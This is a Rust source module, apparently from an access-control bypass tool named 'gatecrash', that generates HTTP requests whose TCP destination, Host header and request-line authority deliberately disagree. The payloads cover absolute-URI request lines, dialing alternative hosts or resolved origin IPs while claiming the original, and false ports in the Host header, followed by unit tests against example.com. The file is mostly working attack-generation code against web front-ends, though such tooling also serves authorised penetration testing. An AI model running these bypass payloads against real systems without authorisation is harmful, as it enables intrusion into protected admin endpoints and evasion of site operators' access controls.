//! Host-substitution module: requests whose TCP destination, `Host` header,
//! or request-line authority disagree with each other on purpose.
//!
//! Candidate authorities come from the user host list (`-shf`) and the recon
//! cache's resolved addresses; the orchestrator snapshots the latter into
//! [`crate::ModuleOpts::resolved_ips`] before generation so the sequence
//! stays pure and repeatable.

use crate::{ModuleOpts, PayloadIter};
use gatecrash_payload::{BypassPayload, TargetUrl};
use std::net::IpAddr;

pub(crate) fn http_host(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let target = target.clone();
    let extra_hosts = opts.extra_hosts.clone();
    let mut ips = opts.resolved_ips.clone();
    ips.sort();
    let ports = opts.tables.ports.clone();

    let mut out: Vec<BypassPayload> = Vec::new();

    // Request-line carries the absolute URI; some front-ends route on the
    // path portion only and skip the ACL check.
    {
        let mut p = BypassPayload::from_target("http_host", &target);
        p.raw_uri = format!("{}://{}{}", target.scheme, target.host, target.raw_uri);
        out.push(p.seal());
    }

    for sub in &extra_hosts {
        // Dial the substitute, claim the original.
        let mut p = BypassPayload::from_target("http_host", &target);
        p.connect_to = Some(sub.clone());
        out.push(p.seal());

        // Dial the original, claim the substitute.
        let mut p = BypassPayload::from_target("http_host", &target);
        p.host = sub.clone();
        p.connect_to = Some(target.host.clone());
        out.push(p.seal());
    }

    let port = target.effective_port();
    for ip in &ips {
        let authority = match ip {
            IpAddr::V4(v4) => format!("{v4}:{port}"),
            IpAddr::V6(v6) => format!("[{v6}]:{port}"),
        };
        let mut p = BypassPayload::from_target("http_host", &target);
        p.connect_to = Some(authority);
        out.push(p.seal());
    }

    // Same origin, lying about the port in the Host header.
    let bare_host = target.host_without_port().to_string();
    for p_str in &ports {
        if p_str.parse::<u16>() == Ok(port) {
            continue;
        }
        let mut p = BypassPayload::from_target("http_host", &target);
        p.host = format!("{bare_host}:{p_str}");
        p.connect_to = Some(target.host.clone());
        out.push(p.seal());
    }

    Box::new(out.into_iter())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{ModuleOpts, TableSet};
    use std::sync::Arc;

    fn opts() -> ModuleOpts {
        ModuleOpts::new(Arc::new(TableSet::embedded().unwrap()))
    }

    #[test]
    fn absolute_uri_comes_first() {
        let t = TargetUrl::parse("http://example.com/admin").unwrap();
        let first = http_host(&t, &opts()).next().unwrap();
        assert_eq!(first.raw_uri, "http://example.com/admin");
        assert_eq!(first.host, "example.com");
        assert_eq!(first.connect_to, None);
    }

    #[test]
    fn host_list_produces_both_directions() {
        let t = TargetUrl::parse("http://example.com/x").unwrap();
        let mut o = opts();
        o.extra_hosts = vec!["origin.internal".into()];
        let got: Vec<_> = http_host(&t, &o).collect();

        let dial_sub = got
            .iter()
            .find(|p| p.connect_to.as_deref() == Some("origin.internal"))
            .expect("dial-substitute payload");
        assert_eq!(dial_sub.host, "example.com");

        let claim_sub = got
            .iter()
            .find(|p| p.host == "origin.internal")
            .expect("claim-substitute payload");
        assert_eq!(claim_sub.connect_to.as_deref(), Some("example.com"));
    }

    #[test]
    fn resolved_ips_become_dial_targets() {
        let t = TargetUrl::parse("https://example.com/x").unwrap();
        let mut o = opts();
        o.resolved_ips = vec!["203.0.113.9".parse().unwrap(), "2001:db8::1".parse().unwrap()];
        let got: Vec<_> = http_host(&t, &o).collect();
        assert!(got
            .iter()
            .any(|p| p.connect_to.as_deref() == Some("203.0.113.9:443")));
        assert!(got
            .iter()
            .any(|p| p.connect_to.as_deref() == Some("[2001:db8::1]:443")));
    }

    #[test]
    fn port_permutations_skip_current() {
        let t = TargetUrl::parse("http://example.com:8080/x").unwrap();
        let got: Vec<_> = http_host(&t, &opts()).collect();
        assert!(got.iter().any(|p| p.host == "example.com:443"));
        assert!(!got.iter().any(|p| p.host == "example.com:8080"));
    }
}
